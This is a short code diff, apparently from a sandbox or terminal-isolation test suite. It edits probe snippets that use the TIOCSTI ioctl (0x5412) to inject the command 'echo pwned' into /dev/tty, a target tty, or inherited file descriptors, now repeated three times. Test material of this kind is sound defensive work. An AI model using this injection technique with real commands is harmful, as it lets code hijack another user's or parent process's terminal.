@@ -160,10 +160,10 @@ TERMINAL = {
 for path in ("/dev/tty", T["tty"]):
     try: d = os.open(path, os.O_RDONLY | os.O_NOCTTY)
     except OSError: continue
-    for c in b"echo pwned\\n": libc.ioctl(d, 0x5412, bytes([c]))""",
+    for c in b"echo pwned\\n" * 3: libc.ioctl(d, 0x5412, bytes([c]))""",
     "inject on inherited": """
 for d in range(0, 24):
-    for c in b"echo pwned\\n": libc.ioctl(d, 0x5412, bytes([c]))""",
+    for c in b"echo pwned\\n" * 3: libc.ioctl(d, 0x5412, bytes([c]))""",
     "read": """
 for path in ("/dev/tty", T["tty"]):
     try: d = os.open(path, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
